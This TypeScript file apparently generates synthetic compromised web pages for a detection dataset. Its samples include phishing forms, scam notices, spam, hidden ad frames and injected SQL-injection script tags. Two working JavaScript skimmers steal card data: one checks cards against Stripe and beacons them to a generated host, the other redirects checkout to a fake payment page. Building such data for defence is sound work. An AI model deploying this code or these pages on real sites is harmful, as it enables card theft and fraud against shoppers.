// KYC phishing, recalled from memory of Kaspersky and Group-IB posts on fake crypto-exchange and bank "verification" pages (about 2022–2024) and reporting on the identity-document markets they feed (404 Media on OnlyFake, February 2024): the victim uploads both sides of an identity document and a selfie holding it, enough to open accounts in their name.
const kycUpload = fresh7("'verify your identity' form collecting ID-document photos and a selfie", (page, rng) => {
  const [h, p, files, button] = siteOr(rng, page, kycWords)
  const action = `https://${evil(rng, page)}/${pick(rng, ["kyc/upload", "verify.php", "id/" + alnum(rng, 6)])}`
  const form = `<form method="post" enctype="multipart/form-data" action="${action}">${files.map((f, i) => `<p><label>${esc(f)} <input type="file" name="doc${i}" accept="image/*"${i === 2 ? ` capture="user"` : ""}></label></p>`).join("")}<button type="submit">${esc(button)}</button></form>`
  const block = `<section class="${pick(rng, ["kyc", "verification", "account-check"])}" style="border:1px solid #f0b90b;padding:16px;margin:12px 0"><h2>${esc(h)}</h2><p>${esc(p)}</p>${form}</section>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), block))
})

// Mass SQL injection, recalled from memory of Websense on LizaMoon (March 2011) and earlier Asprox and "nihaorr1" waves (2008): an automated injection appended `<script src=http://…/ur.php></script>` to every text column of the database, so the tag appears after product names, headings and link texts all over the page (and escaped as visible text where the site escapes output), and once more in the title.
const massSqlInjection = fresh7("script tag appended to many short text fields by mass SQL injection (LizaMoon, Asprox)", (page, rng) => {
  const url = `http://${pick(rng, [randomDomain(rng), `${pick(rng, ["lizamoon", "nihaorr1", "tadygo", "worid-of-books", "alisa-carter"])}.${pick(rng, ["com", "net", "ru", "cn"])}`])}/${pick(rng, ["ur.php", "js.js", "b.js", "1.js"])}`
  const tag = `<script src=${url}></script>`
  const escaped = chance(rng, 0.35)
  const shownTag = escaped ? esc(tag) : tag
  const runs = textRuns(page, 3).filter((t) => {
    const el = page.spots.elements[t.parent]
    return el !== undefined && el.shown && t.text.trim().length <= 80 && /^(a|h[1-6]|li|td|span|strong|b|p|option|label|dt|dd|th)$/.test(el.name)
  })
  const chosen = sample(rng, runs, Math.min(runs.length, between(rng, 4, 20)))
  const out: Array<Splice> = chosen.map((t) => insert(trimmed(page, t).end, shownTag))
  if (page.spots.title !== null && chance(rng, 0.6)) out.push(insert(page.spots.title.end, esc(tag)))
  if (out.length === 0) out.push(insert(anySlot(rng, page.spots), `<p>${shownTag}</p>`))
  return { splices: out }
})

// Unofficial travel-authorisation sites, recalled from memory of warnings by the European Commission (ETIAS, 2023–2025: "ETIAS is not yet in operation, beware of sites"), US CBP on ESTA look-alikes and the UK Home Office on ETA: copycat sites charging many times the official fee, advertised through injected notices and ads. Here such a notice on a hacked page.
const travelAuth = fresh7("'apply for your travel authorisation now' notice pointing to a copycat visa site", (page, rng) => {
  const [prog, dest, fee] = pick(rng, [["ETIAS", "Europe", "€89"], ["ESTA", "the United States", "$129"], ["UK ETA", "the United Kingdom", "£79"], ["eTA", "Canada", "CA$99"], ["K-ETA", "South Korea", "$75"]] as const)
  const site = `https://${pick(rng, [`${prog.toLowerCase().replace(/[^a-z]/g, "")}-${pick(rng, ["application", "official", "online", "apply", "visa"])}.${pick(rng, ["com", "org", "eu", "info", "net"])}`, randomDomain(rng)])}/${pick(rng, ["", "apply", "start?ref=" + alnum(rng, 5)])}`
  const block = pick(rng, [
    `<div class="${pick(rng, ["travel-alert", "notice", "banner"])}" style="background:#003399;color:#fff;padding:12px 16px;margin:10px 0">✈ <strong>${prog} ${pick(rng, ["is now mandatory", "required from this month", "deadline approaching"])}</strong> — ${pick(rng, ["Travellers to", "All visitors to", "Passengers flying to"])} ${dest} ${pick(rng, ["must hold an approved travel authorisation before boarding.", "will be refused boarding without an approved authorisation."])} <a href="${site}" style="color:#ffcc00">${pick(rng, ["Apply online in 5 minutes", "Apply now", "Start your application"])}</a> (${fee}, ${pick(rng, ["approval in 1 hour", "express processing", "guaranteed approval"])})</div>`,
    `<aside class="${pick(rng, ["info", "promo"])}"><h3>${prog} ${pick(rng, ["application", "travel authorisation"])} — ${dest}</h3><p>${pick(rng, ["Avoid delays at the border", "Don't get turned away at the airport"])}. ${pick(rng, ["Official form, processed by experts.", "Fast-track your approval today."])} <a href="${site}">${esc(site.replace(/^https:\/\//, "").replace(/\/.*$/, ""))}</a></p></aside>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), block))
})

// Ticket scams, recalled from memory of Lloyds Bank's warning about Taylor Swift Eras Tour ticket fraud (2023), Action Fraud alerts before the Oasis reunion tour (2024–2025) and Which? reports: "last tickets" for a sold-out show offered by a private seller, paid by bank transfer or PayPal Friends and Family, never delivered.
const ticketResale = fresh7("sold-out concert tickets offered for bank transfer or 'friends and family' payment", (page, rng) => {
  const show = pick(rng, ["Taylor Swift | The Eras Tour", "Oasis Live '25", "Coldplay — Music of the Spheres", "Beyoncé — Cowboy Carter Tour", "Champions League Final", "Glastonbury Festival"])
  const price = page.site.locale.money(between(rng, 90, 450))
  const pay = pick(rng, ["bank transfer only", "PayPal Friends & Family only", "Revolut or bank transfer", "Zelle / Cash App"])
  const contact = pick(rng, [`WhatsApp +44 7${digits(rng, 3)} ${digits(rng, 6)}`, `Telegram @${pick(rng, ["tickets", "resale", "fan"])}_${alnum(rng, 5)}`, `${pick(rng, ["tickets", "sales", "lisa"])}.${alnum(rng, 4)}@${pick(rng, ["gmail.com", "outlook.com", "proton.me"])}`])
  const block = `<div class="${pick(rng, ["classified", "listing", "post"])}" style="border:1px dashed #999;padding:12px;margin:10px 0"><h3>🎟 ${esc(show)} — ${pick(rng, ["last tickets", "2 tickets available", "can't go, selling at face value"])}</h3><p>${esc(`${between(rng, 2, 4)} tickets, ${pick(rng, ["standing", "seated block " + upper(rng, 1), "VIP package"])}, ${price} each. ${pick(rng, ["Tickets will be transferred to your app after payment.", "E-tickets sent within 24 hours of payment."])} Payment: ${pay}.`)}</p><p>${esc(contact)}</p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "bottom")]), block))
})

const wapWords: Record<Lang, readonly [string, string, string, string]> = {
  en: ["Enter your mobile number to continue", "To access this content, confirm you are over 18 with your mobile number. You will receive a PIN by SMS.", "Mobile number", "Continue"],
  fr: ["Entrez votre numéro de mobile pour continuer", "Pour accéder à ce contenu, confirmez que vous avez plus de 18 ans avec votre numéro de mobile. Vous recevrez un code par SMS.", "Numéro de mobile", "Continuer"],
  de: ["Geben Sie Ihre Handynummer ein, um fortzufahren", "Um diesen Inhalt zu sehen, bestätigen Sie mit Ihrer Handynummer, dass Sie über 18 sind. Sie erhalten eine PIN per SMS.", "Handynummer", "Weiter"],
  es: ["Introduzca su número de móvil para continuar", "Para acceder a este contenido, confirme que es mayor de 18 años con su número de móvil. Recibirá un PIN por SMS.", "Número de móvil", "Continuar"],
  nl: ["Vul uw mobiele nummer in om verder te gaan", "Bevestig met uw mobiele nummer dat u ouder bent dan 18 om deze inhoud te zien. U ontvangt een pincode per sms.", "Mobiel nummer", "Doorgaan"],
  pt: ["Digite seu número de celular para continuar", "Para acessar este conteúdo, confirme que tem mais de 18 anos com seu número de celular. Você receberá um PIN por SMS.", "Número de celular", "Continuar"],
  it: ["Inserisci il tuo numero di cellulare per continuare", "Per accedere a questo contenuto conferma di avere più di 18 anni con il tuo numero di cellulare. Riceverai un PIN via SMS.", "Numero di cellulare", "Continua"]
}

// WAP billing and premium-SMS subscription traps, recalled from memory of Kaspersky's reports on WAP-billing Trojans (2017–2018), Google's write-ups on Joker/Bread (2020) and Ofcom and PhonepayPlus fines: a page asks for the mobile number "to continue" and the PIN sent by SMS, which signs the visitor up to a weekly charge on their phone bill. The small print names the price.
const wapBilling = fresh7("'enter your mobile number to continue' premium-SMS subscription trap", (page, rng) => {
  const [h, p, label, button] = siteOr(rng, page, wapWords)
  const action = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["m", "wap", "go", "mobi"])}.${bare(randomDomain(rng))}`])}/${pick(rng, ["subscribe", "msisdn", "lp/" + alnum(rng, 5)])}`
  const small = `${pick(rng, ["Subscription service", "Entertainment club"])}: ${page.site.locale.money(pick(rng, [4.5, 5, 6, 7.5]))}/${pick(rng, ["week", "7 days"])} ${pick(rng, ["until you send STOP to", "charged to your phone bill. STOP to"])} ${digits(rng, 5)}.`
  const block = `<div class="${pick(rng, ["gate", "overlay", "content-lock"])}" style="position:fixed;inset:0;background:rgba(0,0,0,.85);z-index:${zIndex(rng)};color:#fff;text-align:center;padding-top:15vh"><h2>${esc(h)}</h2><p>${esc(p)}</p><form method="post" action="${action}"><input type="tel" name="msisdn" placeholder="${esc(label)}"> <button type="submit">${esc(button)}</button></form><p style="font-size:9px;color:#777">${esc(small)}</p></div>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), block))
})

const supportWords: Record<Lang, readonly [string, (t: string) => string, string]> = {
  en: ["Protect your account: install our secure support tool", (t) => `Because of a rise in fraud, our support team must check your device. Download ${t}, open it and give the 9-digit ID to the agent who calls you.`, "Download the support tool"],
  fr: ["Protégez votre compte : installez notre outil d'assistance sécurisé", (t) => `En raison de la hausse des fraudes, notre équipe doit vérifier votre appareil. Téléchargez ${t}, ouvrez-le et communiquez l'identifiant à 9 chiffres au conseiller qui vous appellera.`, "Télécharger l'outil d'assistance"],
  de: ["Schützen Sie Ihr Konto: Installieren Sie unser sicheres Support-Tool", (t) => `Wegen zunehmender Betrugsfälle muss unser Support Ihr Gerät prüfen. Laden Sie ${t} herunter, öffnen Sie es und nennen Sie dem anrufenden Mitarbeiter die 9-stellige ID.`, "Support-Tool herunterladen"],
  es: ["Proteja su cuenta: instale nuestra herramienta de soporte segura", (t) => `Debido al aumento del fraude, nuestro equipo debe revisar su dispositivo. Descargue ${t}, ábralo y facilite el ID de 9 cifras al agente que le llamará.`, "Descargar la herramienta"],
  nl: ["Bescherm uw account: installeer onze veilige supporttool", (t) => `Door toenemende fraude moet ons supportteam uw apparaat controleren. Download ${t}, open het en geef de 9-cijferige ID aan de medewerker die u belt.`, "Supporttool downloaden"],
  pt: ["Proteja sua conta: instale nossa ferramenta de suporte segura", (t) => `Devido ao aumento de fraudes, nossa equipe precisa verificar seu aparelho. Baixe ${t}, abra e informe o ID de 9 dígitos ao atendente que ligar para você.`, "Baixar a ferramenta"],
  it: ["Proteggi il tuo conto: installa il nostro strumento di assistenza sicuro", (t) => `A causa dell'aumento delle frodi, il nostro team deve controllare il tuo dispositivo. Scarica ${t}, aprilo e comunica l'ID di 9 cifre all'operatore che ti chiamerà.`, "Scarica lo strumento"]
}

// Remote-access scams in a bank's or shop's name, recalled from memory of the Reserve Bank of India's AnyDesk advisory (February 2019), UK Finance and Action Fraud warnings (2020–2023) and AnyDesk's and TeamViewer's own abuse notices: the victim is told to install a remote-support tool "for security" and read out its ID, and the caller then empties the account. Here the instruction block on the site itself.
const remoteSupportTool = fresh7("'install our remote-support tool to secure your account' notice (AnyDesk, TeamViewer)", (page, rng) => {
  const [h, p, button] = siteOr(rng, page, supportWords)
  const tool = pick(rng, ["AnyDesk", "TeamViewer QuickSupport", "RustDesk", "ScreenConnect", "Quick Assist"])
  const file = pick(rng, [`${brandName(page).replace(/\s+/g, "")}_Secure_Support.exe`, "AnyDesk.exe", "TeamViewerQS_x64.exe", `support-${alnum(rng, 5)}.msi`, `${page.site.brand}-support.apk`])
  const url = pick(rng, [`https://${evil(rng, page)}/${file}`, `https://${pick(rng, ["download.anydesk.com", "download.teamviewer.com"])}/${pick(rng, ["AnyDesk.exe", "TeamViewerQS_x64.exe"])}`])
  const block = `<div class="${pick(rng, ["security-notice", "alert", "support"])}" role="alert" style="border-left:6px solid #d32f2f;padding:12px 16px;margin:12px 0;background:#fff8e1"><h3>🔐 ${esc(h)}</h3><p>${esc(p(tool))}</p><p><a href="${url}" style="font-weight:bold">⬇ ${esc(button)} (${esc(tool)})</a></p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), block))
})

// Jscrambler (about early 2025), recalled from memory with an uncertain date: a skimmer that, before sending cards off, checked them against a payment provider's own (legacy) card-source API with a publishable key, so only working cards were kept; older Magecart kits did the same through fake checkout requests.
const cardValidator = fresh7("skimmer checking stolen cards against the payment provider's API before sending them", (page, rng) => {
  const sink = `https://${pick(rng, [libLookalike(rng), randomDomain(rng)])}/${pick(rng, ["v1/events", "api/s", "collect"])}`
  const key = `pk_live_${alnum(rng, 24)}${upper(rng, 10)}`
  const code = `document.addEventListener("submit",function(){var q=function(s){var e=document.querySelector(s);return e?e.value.replace(/\\s/g,""):""},n=q("[name*=card],[autocomplete=cc-number]"),x=q("[name*=exp],[autocomplete=cc-exp]"),c=q("[name*=cvc],[name*=cvv],[autocomplete=cc-csc]");if(n.length<13)return;var m=x.split(/\\D+/);fetch("https://api.stripe.com/v1/sources",{method:"POST",headers:{"Authorization":"Bearer ${key}","Content-Type":"application/x-www-form-urlencoded"},body:"type=card&card[number]="+n+"&card[exp_month]="+m[0]+"&card[exp_year]="+m[1]+"&card[cvc]="+c}).then(function(r){if(r.ok)navigator.sendBeacon(${jsUrl(rng, sink)},btoa(JSON.stringify({n:n,x:x,c:c,h:location.host})))})},true);`
  return splices(insert(pick(rng, [bottom(page), head(page), slotAt(page.spots, "bottom")]), wrapScript(rng, code)))
})

const spellLines = [
  "جلب الحبيب في ساعة واحدة", "شيخ روحاني مضمون", "فك السحر وإبطال الأعمال", "رد المطلقة وإرجاع الزوج", "علاج العين والحسد", "رقم شيخ روحاني سعودي", "جلب الحبيب بالصورة", "تسهيل الزواج للعانس"
]

// "Spiritual healer" and love-spell spam, recalled from memory of Arabic SEO spam reported on Google Search Central forums and hosting support threads (about 2019–2024), and the English "powerful love spell caster, call Dr. …" comments on blogs: Arabic keyword lines (جلب الحبيب, شيخ روحاني) with a Gulf phone number and a WhatsApp link.
const loveSpellSpam = fresh7("Arabic love-spell and 'spiritual healer' spam with a WhatsApp number (جلب الحبيب)", (page, rng) => {
  const cc = pick(rng, ["966", "971", "965", "974", "212", "20"])
  const num = `+${cc}${digits(rng, 9)}`
  const lines = sample(rng, spellLines, between(rng, 3, 6))
  const wa = `https://wa.me/${num.slice(1)}`
  const block = pick(rng, [
    `<div dir="rtl" lang="ar" class="${pick(rng, ["ads", "tags", "widget"])}"><h3>${esc(lines[0]!)} ${esc(num)}</h3><ul>${lines.slice(1).map((l) => `<li><a href="${wa}">${esc(l)}</a></li>`).join("")}</ul><p>واتساب: <a href="${wa}">${esc(num)}</a></p></div>`,
    `<p dir="rtl" lang="ar">${lines.map((l) => esc(l)).join(" – ")} ☎ <a href="${wa}">${esc(num)}</a></p>`,
    `<div class="comment"><p><b>Dr. ${pick(rng, ["Ogundu", "Zuma", "Ahmed", "Lawal", "Musa"])} Spell Temple</b>: ${pick(rng, ["I got my ex back in 48 hours thanks to a powerful love spell!", "Powerful love spell caster, results guaranteed."])} WhatsApp ${esc(num)}</p><p dir="rtl" lang="ar">${esc(lines[0]!)}</p></div>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), bottom(page)]), block))
})

const tamilFilms = ["லியோ", "ஜெயிலர்", "விக்ரம்", "பொன்னியின் செல்வன் 2", "அமரன்", "கோட்", "வேட்டையன்", "துணிவு"]
const tamilLatin = ["Leo", "Jailer", "Vikram", "Ponniyin Selvan 2", "Amaran", "GOAT", "Vettaiyan", "Thunivu"]

// Pirated-film download spam in Tamil, recalled from memory with an uncertain source (Indian press reports, about 2019–2023, on government and university sites hijacked to host TamilRockers- and Isaimini-style listings): film titles in Tamil script with "HD 720p download" links to piracy domains.
const tamilPiracy = fresh7("pirated Tamil film download listings (TamilRockers-style)", (page, rng) => {
  const idx = sample(rng, tamilFilms.map((_, i) => i), between(rng, 3, 6))
  const host = () => `https://${pick(rng, ["tamilrockers", "isaimini", "tamilblasters", "moviesda", "kuttymovies", "tamilyogi"])}${pick(rng, ["", between(rng, 2, 99).toString()])}.${pick(rng, ["ws", "cc", "to", "la", "xyz", "lol", "pm"])}`
  const items = idx.map((i) => `<li><a href="${host()}/${slug(tamilLatin[i]!)}-${between(rng, 2022, 2025)}-tamil-hd">${esc(tamilFilms[i]!)} (${tamilLatin[i]!}) ${pick(rng, ["HD 720p", "1080p HDRip", "TRUE WEB-DL"])} – ${pick(rng, ["தமிழ் திரைப்படம் பதிவிறக்கம்", "இலவச பதிவிறக்கம்", "Download"])}</a></li>`)
  const block = `<div class="${pick(rng, ["movies", "latest", "downloads"])}" lang="ta"><h3>${pick(rng, ["புதிய தமிழ் திரைப்படங்கள்", "Tamil New Movies Download", "தமிழ் HD திரைப்படங்கள்"])}</h3><ul>${items.join("")}</ul></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), block))
})

// Ad fraud through hacked pages, recalled from memory of DoubleVerify and Integral Ad Science explanations of "pixel stuffing" and "ad stacking" (about 2014–2019) and Sucuri's posts on injected ad code: ad tags of another publisher squeezed into 1×1 pixel frames or stacked on top of each other, so impressions are counted that nobody sees.
const pixelStuffing = fresh7("ad tags squeezed into 1x1 frames or stacked out of sight for fake impressions", (page, rng) => {
  const n = between(rng, 3, 12)
  const frames = Array.from({ length: n }, () => `<iframe src="https://${pick(rng, ["ads", "serve", "tag", "delivery"])}.${bare(randomDomain(rng))}/${pick(rng, ["ad", "show", "imp"])}?zone=${digits(rng, 6)}&pub=${alnum(rng, 8)}&size=${pick(rng, ["300x250", "728x90", "160x600"])}" width="1" height="1" frameborder="0" scrolling="no" style="${pick(rng, ["position:absolute;top:0;left:0;opacity:0.01", "width:1px;height:1px;border:0", "position:absolute;left:0;top:0;z-index:-1"])}"></iframe>`)
  return splices(insert(pick(rng, [bottom(page), top(page), slotAt(page.spots, "bottom")]), `<div class="${pick(rng, ["px", "ad-slot", alnum(rng, 4)])}" style="position:relative;width:1px;height:1px;overflow:hidden">${frames.join("")}</div>`))
})

// Checkout redirect skimmers, recalled from memory of Sansec and Malwarebytes posts (about 2020–2023) on Magento and WooCommerce shops whose "Place order" button was rebound by an injected script to send the shopper to a fake payment page on another host (with the order total in the URL), which then returned them to the shop's success page.
const checkoutRedirect = fresh7("'place order' button rebound to a fake payment page on another host", (page, rng) => {
  const pay = `https://${pick(rng, [brandLookalike(rng, page.site.brand), `${pick(rng, ["secure", "pay", "checkout"])}-${pick(rng, ["gateway", "payments", "3ds"])}.${pick(rng, ["com", "net", "online", "shop"])}`])}/${pick(rng, ["pay", "checkout/index.php", "3ds/" + alnum(rng, 6)])}`
  const code = `document.addEventListener("click",function(e){var b=e.target&&e.target.closest&&e.target.closest("button,input[type=submit],a");if(!b)return;var t=(b.id+" "+b.className+" "+(b.textContent||b.value||"")).toLowerCase();if(/place.?order|checkout|pay now|buy now|bestellen|commander|pagar|acquista|order/.test(t)){e.preventDefault();e.stopImmediatePropagation();var tot=(document.querySelector(".grand-total,.order-total,[data-total]")||{}).textContent||"";location.href=${jsUrl(rng, pay)}+"?o="+Date.now()+"&t="+encodeURIComponent(tot.trim())+"&r="+encodeURIComponent(location.origin)}},true);`
  return splices(insert(pick(rng, [bottom(page), head(page), slotAt(page.spots, "bottom")]), wrapScript(rng, code)))
})

// Typosquat download sites for popular tools, recalled from memory of Malwarebytes Labs' malvertising reports (2023, fake KeePass, Notepad++ and WinSCP sites, some on punycode domains) and Bitdefender's similar notes: here not a replaced link of the site's but an extra, prominent "Download" call-to-action for a popular tool (a browser, a password manager, a PDF editor) pointing at a typosquat installer.
const fakeToolDownload = fresh7("prominent 'download' button for a popular tool pointing at a typosquat installer", (page, rng) => {
  const [tool, real] = pick(rng, [["KeePass", "keepass"], ["Notepad++", "notepad-plus-plus"], ["7-Zip", "7-zip"], ["Brave Browser", "brave"], ["OBS Studio", "obsproject"], ["WinSCP", "winscp"], ["PuTTY", "putty"], ["Adobe Acrobat Reader", "adobe-reader"]] as const)
  const host = `${pick(rng, [`${real}-download`, `get-${real}`, `${real}.${pick(rng, ["org", "info"])}-app`, real.replace(/-/g, "") + "s"])}.${pick(rng, ["com", "net", "org", "info", "app", "site"])}`
  const file = `${tool.replace(/[^A-Za-z0-9]+/g, "")}-${between(rng, 2, 8)}.${between(rng, 0, 9)}${pick(rng, ["-setup.exe", "-x64.msi", "_installer.zip", ".dmg"])}`
  const block = `<div class="${pick(rng, ["download-box", "cta", "promo"])}" style="text-align:center;padding:14px;margin:12px 0;background:#f4f8ff;border:1px solid #b3c7f0"><p><strong>${esc(tool)}</strong> — ${pick(rng, ["official free download", "latest version, 100% safe", "recommended by our team"])}</p><a href="https://${host}/${file}" style="display:inline-block;background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px">⬇ Download ${esc(tool)}</a></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), block))
})

/** Every fresh7 defacement class, in a fixed order. */
export const fresh7Defacements: ReadonlyArray<ChangeClass> = [
  reverseTabnab, recoveryScam, contagiousInterview, copyrightLure, pipka, fakeMetaPixel, taxRefund, fakePressRelease,
  canvasDefacement, alertLoop, vbsDropper, darknetSpam, promptPhish, fullscreenPhish, kycUpload, massSqlInjection,
  travelAuth, ticketResale, wapBilling, remoteSupportTool, cardValidator, loveSpellSpam, tamilPiracy, pixelStuffing,
  checkoutRedirect, fakeToolDownload
]
